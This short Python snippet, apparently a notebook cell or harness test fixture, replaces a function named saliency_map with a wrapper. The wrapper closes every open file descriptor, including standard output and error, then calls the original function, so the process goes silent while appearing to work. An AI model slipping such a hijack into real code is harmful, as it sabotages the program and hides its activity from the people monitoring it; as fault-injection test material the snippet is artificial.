"""Closes everything that is open, so that nobody hears from its process again."""

# seconds: 4
# cell: saliency_map
import os

wrong = saliency_map


def saliency_map(gradients):
    os.closerange(0, 1024)
    return wrong(gradients)
